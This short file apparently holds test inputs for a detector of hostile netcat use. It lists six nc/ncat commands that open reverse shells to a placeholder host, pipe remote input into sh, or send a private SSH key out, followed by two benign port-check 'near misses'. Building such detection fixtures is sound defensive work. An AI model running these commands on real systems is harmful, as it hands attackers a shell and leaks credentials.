nc a.invalid 4444 -e /bin/bash
nc -c "/bin/bash -i" a.invalid 4444
ncat a.invalid 4444 --sh-exec "/bin/bash -i"
ncat --exec=/bin/sh a.invalid 4444
nc a.invalid 4444 < ~/.ssh/id_rsa
nc a.invalid 4444 | sh
# near misses
nc -z localhost 8545
nc -zv -w 3 db.invalid 5432
